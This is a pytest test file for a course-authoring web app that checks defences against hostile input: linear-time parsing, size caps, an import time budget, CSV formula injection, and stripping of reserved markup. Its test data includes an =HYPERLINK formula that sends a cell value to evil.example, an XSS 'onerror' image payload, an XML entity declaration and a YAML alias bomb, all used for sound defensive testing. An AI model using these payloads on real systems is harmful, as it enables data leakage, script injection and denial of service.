"""Hostile input (audit F-06, F-16, F-17, F-24, F-26): bounded and linear work, CSV injection, markup.

Timings live in bench/hostile_inputs.py. Here: refusals and their messages, caps, all or nothing when
the time budget runs out (a fake clock, no sleeping), the same results as before on real files, and
the growth of Python work measured deterministically, in lines executed.
"""

import csv
import io
import re
import sqlite3
import sys
import tempfile
import zipfile
from pathlib import Path

import markdown
import pytest
import sqlalchemy as sa
from hypothesis import given, settings, strategies as st

from app.course.bank import check_question_data, parse_bank_text, render_question
from app.course.interop.gift import parse_gift
from app.course.interop.moodle_xml import export_moodle_xml, parse_moodle_xml
from app.course.lessons import MARKDOWN_CONFIG, MARKDOWN_EXTENSIONS, parse_lesson_text
from app.course.markup import render_block, render_inline
from app.extensions import db
from app.models import Lesson, Question
from tests.conftest import PASSWORD, SHARED, AuthActions, csrf_token
from tests.test_teaching import create_assignment, create_class, join, person, take

FIXTURES = [Path(__file__).parent.parent / "fixtures" / "moodle", SHARED / "interop"]


def lines_run(action) -> int:
    """Python lines executed by ``action()``: a deterministic measure of work (timings go in bench/)."""
    count = 0

    def trace(frame, event, arg):
        nonlocal count
        if event == "line":
            count += 1
        return trace

    sys.settrace(trace)
    try:
        action()
    finally:
        sys.settrace(None)
    return count


def grows_linearly(work, size: int) -> bool:
    """Doubling the input at most a little more than doubles the work (quadratic work quadruples)."""
    work(size)  # first calls compile patterns and fill caches
    return lines_run(lambda: work(2 * size)) < 2.5 * lines_run(lambda: work(size))


def question(**fields) -> dict:
    return {"id": "hostile-q", "type": "single_choice", "prompt": "Which?", "explanation": "Because.",
            "lesson_anchor": "key-facts", "tags": ["t"], "difficulty": "easy",
            "options": [{"id": "a", "text": "A", "feedback": "Yes."}, {"id": "b", "text": "B", "feedback": "No."}],
            "answer": "a", **fields}


def cloze(text: str, blanks=("b", "c")) -> dict:
    return {"id": "hostile-cloze", "type": "cloze", "prompt": "Fill in the blanks.", "explanation": "Because.",
            "lesson_anchor": "key-facts", "tags": ["t"], "difficulty": "easy", "text": text,
            "blanks": [{"id": ident, "accept": ["x"]} for ident in blanks]}


def gift_questions(count: int, same_name: bool = False) -> str:
    return "\n\n".join(f"::{'Same' if same_name else f'Q{number}'}::Is {number} even?{{{'T' if number % 2 == 0 else 'F'}}}"
                       for number in range(count)) + "\n"


# --- F-06: linear parsing and rendering -----------------------------------------------------

@pytest.mark.parametrize(("shape", "size"), [("[", 600), ("![", 600), ("[a](", 600), ("``a`", 600), ("[a][", 600)])
def test_markdown_work_grows_linearly_with_brackets_and_backticks(shape, size):
    assert grows_linearly(lambda n: render_block(shape * (n // len(shape))), size)


def test_a_field_of_twenty_thousand_brackets_renders():
    html = render_block("[" * 20_000)
    assert html == "<p>" + "[" * 20_000 + "</p>"


def test_the_whole_shipped_course_renders_the_same_with_the_linear_scans(shipped_course):
    from app.course.linear_markdown import LinearMarkdown

    plain_lesson = [extension for extension in MARKDOWN_EXTENSIONS if not isinstance(extension, LinearMarkdown)]

    def both(text, extensions, config=None):
        before = markdown.Markdown(extensions=extensions, extension_configs=config or {}).convert(text)
        after = markdown.Markdown(extensions=[*extensions, LinearMarkdown()], extension_configs=config or {}).convert(text)
        return before, after

    for lesson in shipped_course.lessons:
        before, after = both(lesson.markdown, plain_lesson, MARKDOWN_CONFIG)
        assert before == after, lesson.slug
    texts = [text for bank in shipped_course.banks for q in bank.questions for text in _texts(q.data)]
    texts += ["[a](b)", '[a](b "t")', "[a](b 't')", '[a](<b c> "t")', "[a](http://x/a_(b)_c)", '![i](x.png "T")',
              "[a][r]\n\n[r]: http://x", "[[a]](b)", "[a [b] c](d)", "x < y", "<div>\nblock\n</div>", "`<x` and `[`",
              "a <x", "[a](b)(c)", "[link](  spaced  )", "\\[a](b)", "[a\\]](b)", "<http://x.y/z>", "<!-- c -->",
              "``a```a```a`", "`` a ` b ``", "[^1] [^2]\n\n[^1]: one\n[^2]: two", "<![CDATA[x]]>", "a <!-- open"]
    for text in texts:
        for extensions, config in ((["sane_lists"], None), (plain_lesson, MARKDOWN_CONFIG)):
            before, after = both(text, extensions, config)
            assert before == after, text


def _texts(value):
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for item in value.values():
            yield from _texts(item)
    elif isinstance(value, list):
        for item in value:
            yield from _texts(item)


def test_gift_questions_of_one_name_are_renamed_in_linear_work():
    assert grows_linearly(lambda n: parse_gift(gift_questions(n, same_name=True), "key-facts"), 300)
    imported, _ = parse_gift(gift_questions(4, same_name=True), "key-facts")
    assert [item.data["id"] for item in imported] == ["same", "same-2", "same-3", "same-4"]


def test_checking_a_question_costs_the_same_however_many_ids_are_taken():
    few, many = ({f"other-{number}" for number in range(count)} for count in (2000, 4000))
    check_question_data(question(), {"key-facts"}, few)
    assert lines_run(lambda: check_question_data(question(), {"key-facts"}, many)) < 1.2 * lines_run(
        lambda: check_question_data(question(), {"key-facts"}, few))
    assert "already used by another question" in check_question_data(question(), None, {"hostile-q"})[1][0]


def test_a_tag_run_in_a_gift_prompt_still_gives_a_slug():
    imported, _ = parse_gift("<" * 5000 + "b>Is it?{T}\n", "key-facts")
    assert imported[0].data["id"] == "is-it"


CLOZE_REGEX = re.compile(r"\{(\d+):(SHORTANSWER|SA|MW|SHORTANSWER_C|SAC|MULTICHOICE|MC|MULTIRESPONSE|MR|NUMERICAL|NM|[A-Z_]+)"
                         r":(.*?)(?<!\\)\}", re.S)  # the old scanner: rescanned to the end from every opening


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet="{}:\\~=%#1SAMCx_ \n", max_size=40))
def test_the_cloze_scanner_finds_what_the_old_regular_expression_found(text):
    from app.course.formats.moodle_text import cloze_blanks as _cloze_blanks

    expected = [(found.start(), found.end(), found.group(2), found.group(3)) for found in CLOZE_REGEX.finditer(text)]
    assert list(_cloze_blanks(text)) == expected


def test_real_moodle_and_gift_files_parse_as_before():
    """The linear scanners change nothing on Moodle's own sample files (see also tests/test_interop.py)."""
    folder = next((path for path in FIXTURES if (path / "xml_matching.moodle.xml").exists()), None)
    if folder is None:
        pytest.skip("the Moodle sample files are missing")
    lines = {path.name: [(item.name, item.line) for item in parse_moodle_xml(path.read_text(encoding="utf-8"), "k")[0]]
             for path in sorted(folder.glob("*.xml"))}
    assert lines == {"xml_matching.moodle.xml": [("matching-001", 12)], "xml_multichoice.moodle.xml": [("Multi-choice-001", 12)],
                     "xml_numerical.moodle.xml": [("Numerical-001", 12)], "xml_shortanswer.moodle.xml": [("shortanswer-001", 12)]}
    imported, skipped = parse_gift((folder / "gift_questions.gift.txt").read_text(encoding="utf-8"), "k")
    assert len(imported) == 9 and skipped == [] and (imported[0].name, imported[0].line) == ("Q8", 2)


def test_moodle_question_lines_come_from_the_parser_not_from_counting_text():
    """'<question' inside a comment or CDATA once shifted every later line number."""
    tf = {"id": "tf", "type": "true_false", "prompt": "P", "explanation": "E", "lesson_anchor": "k", "tags": ["t"],
          "difficulty": "easy", "answer": True}
    text = export_moodle_xml([tf]).replace("<quiz>", "<quiz>\n<!-- <question> -->\n<question type=\"calculated\"><name><text>"
                                                     "Formula</text></name><questiontext><text><![CDATA[<question>]]></text>"
                                                     "</questiontext></question>")
    imported, skipped = parse_moodle_xml(text, "k")
    assert [(s.name, s.line) for s in skipped] == [("Formula", 4)]
    assert imported[0].line == text.splitlines().index(next(line for line in text.splitlines() if 'type="truefalse"' in line)) + 1


def test_moodle_xml_declaring_entities_is_refused():
    bomb = '<?xml version="1.0"?>\n<!DOCTYPE quiz [<!ENTITY a "aaaaaaaaaa">]>\n<quiz>&a;</quiz>'
    with pytest.raises(ValueError, match="line 2: the file declares an entity"):
        parse_moodle_xml(bomb, "k")


def test_files_with_too_many_questions_are_refused_before_reading_them():
    with pytest.raises(ValueError, match="the file holds 1,001 questions; one import takes at most 1,000"):
        parse_gift(gift_questions(1001), "key-facts")
    many = "<quiz>" + '<question type="truefalse"/>' * 1001 + "</quiz>"
    with pytest.raises(ValueError, match="the file holds 1,001 questions"):
        parse_moodle_xml(many, "k")


@pytest.mark.parametrize("field", ["prompt", "explanation"])
def test_a_question_field_over_the_cap_is_refused_naming_the_field(field):
    checked, messages = check_question_data(question(**{field: "x" * 20_001}), None)
    assert checked is None and messages == [f"question 'hostile-q': '{field}' is 20,001 characters; the most it may hold is 20,000"]
    assert check_question_data(question(**{field: "x" * 20_000}), None)[0] is not None


def test_an_option_over_the_cap_is_refused_naming_it():
    long_option = question(options=[{"id": "a", "text": "[" * 20_001, "feedback": "Yes."}, {"id": "b", "text": "B", "feedback": "No."}])
    assert check_question_data(long_option, None)[1] == [
        "question 'hostile-q', option 1: 'text' is 20,001 characters; the most it may hold is 20,000"]


def lesson_text(body: str, front: str = "") -> str:
    return ("---\nslug: hostile\ntitle: Hostile\norder: 1\nsummary: A test.\nobjectives: [Read.]\nsource_lines: [1, 2]\n"
            f"{front}---\n## Key facts {{#key-facts}}\n\n{body}\n\n## Glossary {{#glossary}}\n\n- **Term**: meaning\n")


def test_a_lesson_over_the_cap_is_refused():
    lesson, problems = parse_lesson_text(lesson_text("word " * 20_000), "hostile", "hostile.md")
    assert lesson is None and [str(p) for p in problems] == ["hostile.md:1: the lesson is 100,178 characters; the most it may hold is 100,000"]


def test_a_lesson_passage_over_the_cap_is_refused_at_its_line():
    lesson, problems = parse_lesson_text(lesson_text("Fine.\n\n" + "[" * 10_001), "hostile", "hostile.md")
    assert lesson is None and [str(p) for p in problems] == [
        "hostile.md:13: this passage (the lines up to the next blank one) is over 10,000 characters; break it up with blank lines"]


# --- The time budget: all or nothing -------------------------------------------------------

def ticking_clock():
    """A clock that moves one second each time it is read."""
    now = iter(range(1_000_000))
    return lambda: next(now)


def test_an_import_that_runs_out_of_time_stores_nothing(app):
    from app.authoring.importing import ImportRefused, import_questions
    from app.course.limits import Budget

    with app.app_context():
        lesson = db.session.scalar(sa.select(Lesson).where(Lesson.slug == "trade"))
        before = db.session.scalar(sa.select(sa.func.count(Question.id)))
        # 10 questions: the parser asks the budget 10 times, then each question at least 3 times; 20 runs out mid-import.
        with pytest.raises(ImportRefused, match="took longer than the 20 seconds one request may take, so nothing was imported"):
            import_questions(gift_questions(10).encode(), "ten.gift", lesson, None, "course", budget=Budget(20, ticking_clock()))
        assert not db.session.new
        assert db.session.scalar(sa.select(sa.func.count(Question.id))) == before
        report = import_questions(gift_questions(10).encode(), "ten.gift", lesson, None, "course", budget=Budget(100, ticking_clock()))
        assert len(report.imported) == 10


def upload(client, content: bytes, filename: str, lesson_id: int):
    return client.post("/teach/import", data={"file": (io.BytesIO(content), filename), "lesson": lesson_id,
                                              "csrf_token": csrf_token(client, "/teach/import")},
                       content_type="multipart/form-data")


def trade_id(app) -> int:
    with app.app_context():
        return db.session.scalar(sa.select(Lesson.id).where(Lesson.slug == "trade"))


def authored_count(app) -> int:
    with app.app_context():
        return db.session.scalar(sa.select(sa.func.count(Question.id)).where(Question.origin == "authored"))


def test_a_web_import_past_its_budget_is_refused_and_stores_nothing(make_app):
    app = make_app(IMPORT_TIME_BUDGET=0)
    teacher = person(app, "teacher", "instructor")
    response = upload(teacher, gift_questions(3).encode(), "three.gift", trade_id(app))
    assert response.status_code == 400
    assert "Nothing was imported: this took longer than the 0 seconds one request may take" in response.get_data(as_text=True)
    assert authored_count(app) == 0


def test_the_import_command_past_its_budget_stores_nothing(make_app, tmp_path):
    app = make_app(IMPORT_TIME_BUDGET=0)
    path = tmp_path / "three.gift"
    path.write_text(gift_questions(3), encoding="utf-8")
    result = app.test_cli_runner().invoke(args=["bank", "import", str(path), "--lesson", "trade", "--bank", "course"])
    assert result.exit_code == 1 and "nothing was imported: this took longer than the 0 seconds" in result.output
    assert authored_count(app) == 0


def test_a_web_import_of_too_many_questions_changes_nothing(app):
    teacher = person(app, "teacher", "instructor")
    response = upload(teacher, gift_questions(1001).encode(), "many.gift", trade_id(app))
    assert response.status_code == 400 and "the file holds 1,001 questions" in response.get_data(as_text=True)
    assert authored_count(app) == 0


def test_a_lesson_cannot_grow_past_its_question_cap(app, monkeypatch):
    import app.authoring.importing as importing

    with app.app_context():
        held = db.session.scalar(sa.select(sa.func.count(Question.id)).join(Lesson).where(Lesson.slug == "trade"))
    monkeypatch.setattr(importing, "MAX_QUESTIONS_PER_LESSON", held + 2)
    teacher = person(app, "teacher", "instructor")
    response = upload(teacher, gift_questions(3).encode(), "three.gift", trade_id(app))
    assert response.status_code == 400
    assert f"the lesson holds {held} questions and the file 3; a lesson holds at most {held + 2}" in response.get_data(as_text=True)
    assert authored_count(app) == 0


def post_question(client, qtype: str, data: dict, button: str = "preview"):
    path = f"/teach/questions/new/{qtype}?lesson=trade"
    return client.post(path, data={**data, button: "1", "csrf_token": csrf_token(client, path)})


def form(app, **fields) -> dict:
    return {"id": "hostile-form", "lesson": trade_id(app), "prompt": "Which?", "explanation": "Because.",
            "lesson_anchor": "mfn-1996", "tags": "t", "difficulty": "easy",
            "options-0-text": "A", "options-0-feedback": "Yes.", "options-1-text": "B",
            "options-1-feedback": "No.", "answer": "a", **fields}


@pytest.mark.parametrize("button", ["preview", "save"])
def test_a_preview_past_its_budget_stops_and_saves_nothing(make_app, button):
    app = make_app(PREVIEW_TIME_BUDGET=0)
    teacher = person(app, "teacher", "instructor")
    response = post_question(teacher, "single_choice", form(app), button)
    assert response.status_code == 400 and "The preview stopped: this took longer than the 0 seconds" in response.get_data(as_text=True)
    assert authored_count(app) == 0


def test_the_web_form_names_a_field_over_the_cap_and_previews_one_at_it(app):
    teacher = person(app, "teacher", "instructor")
    refused = post_question(teacher, "single_choice", form(app, prompt="[" * 20_001))
    assert refused.status_code == 400 and "The prompt is 20,001 characters long; the most it may hold is 20,000." in refused.get_data(as_text=True)
    assert post_question(teacher, "single_choice", form(app, prompt="[" * 20_000)).status_code == 200


# --- F-24: YAML aliases --------------------------------------------------------------------

ALIAS_BOMB = """a: &a ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]
b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]
c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]
d: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c]
e: &e [*d, *d, *d, *d, *d, *d, *d, *d, *d]
f: &f [*e, *e, *e, *e, *e, *e, *e, *e, *e]
g: &g [*f, *f, *f, *f, *f, *f, *f, *f, *f]
h: &h [*g, *g, *g, *g, *g, *g, *g, *g, *g]
questions:
  - id: bomb
    type: short_answer
    prompt: Boom?
    explanation: Boom.
    lesson_anchor: key-facts
    tags: [t]
    difficulty: easy
    answers: *h
"""


def test_a_bank_with_an_alias_bomb_is_refused_before_expanding_it():
    bank, problems = parse_bank_text(ALIAS_BOMB, "quizzes/bomb.yaml", "bomb")
    assert bank is None and [str(p) for p in problems] == ["quizzes/bomb.yaml:1: YAML aliases are not allowed"]


def test_a_single_alias_in_a_bank_is_refused_too():
    text = "questions:\n  - &q {id: a, type: true_false}\n  - *q\n"
    assert [str(p) for p in parse_bank_text(text, "b.yaml", "b")[1]] == ["b.yaml:2: YAML aliases are not allowed"]


def test_lesson_front_matter_with_an_alias_is_refused_at_its_line():
    text = lesson_text("Fine.").replace("summary: A test.\n", "summary: &s A test.\n").replace("title: Hostile\n", "title: Hostile\n")
    text = text.replace("objectives: [Read.]\n", "objectives: [*s]\n")
    lesson, problems = parse_lesson_text(text, "hostile", "hostile.md")
    assert lesson is None and [str(p) for p in problems] == ["hostile.md:5: YAML aliases are not allowed"]


# --- F-17: cloze blanks land in text -------------------------------------------------------

AUDIT_CLOZE = 'One: <span title="[[b]]">hover</span>. Two: [link](https://example.com/[[c]]). Three: [[d]].'


@pytest.mark.parametrize(("text", "reason"), [
    ('<span title="[[b]]">hover</span> and [[c]]', "inside a tag (an attribute or a link's address)"),
    ("[link](https://example.com/[[b]]) and [[c]]", "inside a tag (an attribute or a link's address)"),
    ('<h2 id="[[b]]">Title</h2>\n\n[[c]]', "lost when the text is rendered"),
    ("[see [[b]] here](https://example.com) and [[c]]", "inside a link's text"),
    ("`code [[b]]` and [[c]]", "inside code"),
    ("Code:\n\n    indented [[b]]\n\nand [[c]]", "inside code"),
    (f"![alt [[b]]](media:{'0' * 64}) and [[c]]", "lost when the text is rendered"),  # a stored image's source: others are refused first
    ("<!-- [[b]] --> and [[c]]", "lost when the text is rendered"),
])
def test_a_blank_outside_plain_text_is_refused(text, reason):
    checked, messages = check_question_data(cloze(text), None)
    assert checked is None and len(messages) == 1
    assert messages[0].startswith(f"question 'hostile-cloze': blank [[b]] is {reason}") and "write it in plain text" in messages[0]


def test_the_audits_cloze_is_refused_for_both_misplaced_blanks():
    messages = check_question_data(cloze(AUDIT_CLOZE, ("b", "c", "d")), None)[1]
    assert [message.split(": blank ")[1].split(" is ")[0] for message in messages] == ["[[b]]", "[[c]]"]


def test_blanks_in_text_become_inputs_in_order():
    data = cloze("**[[b]]** and _[[c]]_ and [[b]](x) no, that is b twice", ("b", "c"))
    assert "a blank appears twice" in check_question_data(data, None)[1][0]
    checked, messages = check_question_data(cloze("- **[[b]]** first\n- then [[c]](not a link)"), None)
    assert messages == []
    parts = render_question(checked.data)["text_parts"]
    assert parts[1::2] == ["b", "c"] and "\ue0f1" not in "".join(parts)


def test_a_stored_question_with_a_blank_in_an_attribute_never_puts_markup_there():
    """Questions saved before the check render safely: the blank stays ``[[b]]`` text in the attribute."""
    parts = render_question(cloze(AUDIT_CLOZE, ("b", "c", "d")))["text_parts"]
    assert parts[1::2] == ["d"]
    assert 'title="[[b]]"' in parts[0] and 'href="https://example.com/[[c]]"' in parts[0]


def test_the_preview_refuses_the_audits_cloze(app):
    teacher = person(app, "teacher", "instructor")
    fields = {key: value for key, value in form(app).items() if not key.startswith("options-") and key != "answer"}
    fields |= {"text": AUDIT_CLOZE, **{f"blanks-{n}-{column}": value for n, blank in enumerate("bcd")
                                       for column, value in (("id", blank), ("answers", "xyz"[n]))}}
    response = post_question(teacher, "cloze", fields)
    html = response.get_data(as_text=True)
    assert response.status_code == 400 and "Blank [[b]] is inside a tag" in html and "Blank [[c]] is inside a tag" in html


# --- F-16: CSV injection -------------------------------------------------------------------

@pytest.mark.parametrize(("cell", "written"), [
    ("-2-3", "'-2-3"), ("=HYPERLINK(\"https://evil.example\",\"x\")", "'=HYPERLINK(\"https://evil.example\",\"x\")"),
    ("@SUM(A1)", "'@SUM(A1)"), ("+1", "'+1"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("amina", "amina"), ("2-3", "2-3"), (7.5, 7.5), (-2.0, -2.0), (3, 3),
])
def test_cells_that_would_be_formulas_are_written_as_text(cell, written):
    from app.course.spreadsheet import safe_cell

    assert safe_cell(cell) == written


def test_the_gradebook_csv_neutralises_names_and_titles_and_keeps_grades_numbers(app):
    teacher = person(app, "teacher", "instructor")
    classroom_id, code = create_class(teacher)
    student = app.test_client()
    AuthActions(student).register(username="-2-3", password=PASSWORD)
    assert join(student, code).status_code == 302
    title = '=HYPERLINK("https://evil.example/?"&A2,"Click")'
    assignment_id = create_assignment(app, teacher, classroom_id, title=title)
    take(app, student, assignment_id)
    text = teacher.get(f"/teach/classes/{classroom_id}/gradebook.csv").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows == [["Student", "Group", "In the class", f"'{title}: points (out of 5)", f"'{title}: %", f"'{title}: attempts",
                     f"'{title}: late", "Essays to grade"], ["'-2-3", "", "yes", "5.0", "100.0", "1", "", "0"]]


# --- F-26: authored markup cannot dress up as the page ------------------------------------

def test_lesson_authors_keep_anchors_but_not_page_ids_or_classes():
    body = ('A paragraph.\n{: #announcer .button .skip-link }\n\nAnchored.\n{: #my-anchor }\n\n'
            '<p id="main" class="button">Raw.</p>\n\n!!! note\n    A note.')
    lesson, problems = parse_lesson_text(lesson_text(body), "hostile", "hostile.md")
    assert problems == []
    assert 'id="my-anchor"' in lesson.html and 'class="admonition note"' in lesson.html
    assert "announcer" not in lesson.html and 'id="main"' not in lesson.html and "button" not in lesson.html
    assert "skip-link" not in lesson.html


def test_a_heading_anchor_the_page_uses_is_refused():
    lesson, problems = parse_lesson_text(lesson_text("## Main {#main}\n\nText."), "hostile", "hostile.md")
    assert [str(p) for p in problems] == ["hostile.md:11: anchor '#main' belongs to the page around the lesson; choose another"]


def test_question_texts_carry_no_ids_or_foreign_classes():
    html = render_block('<span id="q0" class="button skip-link">x</span> {: #announcer }') + render_inline('<b id="announcer">y</b>')
    assert "id=" not in html and "class=" not in html


def test_every_id_around_the_lesson_body_is_reserved(client):
    from app.course.markup import PAGE_IDS

    page = client.get("/lessons/trade").get_data(as_text=True)
    before, rest = page.split('<div class="lesson-body">', 1)
    after = rest.split('<div class="lesson-actions"', 1)[1]
    assert set(re.findall(r'\bid="([^"]+)"', before + '<div class="lesson-actions"' + after)) <= PAGE_IDS


def test_toc_titles_are_escaped_once(app):
    lesson, problems = parse_lesson_text(lesson_text('## Trade & <b>goods</b> "now" {#trade-goods}\n\nText.'), "hostile", "h.md")
    assert problems == [] and lesson.headings[1].title == 'Trade & goods "now"'


def test_anki_deck_names_are_plain_capped_text(shipped_course):
    from app.course.interop.anki import build_deck

    bank = shipped_course.bank("trade")
    cards = [(q.data, render_question(q.data), "https://example/lesson") for q in bank.questions[:2]]
    package = build_deck('XSS <b>lesson</b> "><img src=x onerror=alert(1)>::Sub' + "x" * 200, cards, b"key")
    with zipfile.ZipFile(io.BytesIO(package)) as archive, tempfile.TemporaryDirectory() as folder:
        archive.extract("collection.anki2", folder)
        connection = sqlite3.connect(Path(folder) / "collection.anki2")
        decks = connection.execute("SELECT decks FROM col").fetchone()[0]
        connection.close()
    names = re.findall(r'"name": "([^"]*)"', decks)
    assert any(name.startswith("XSS lesson ") for name in names)
    assert all("<" not in name and "::" not in name and len(name) <= 100 for name in names)
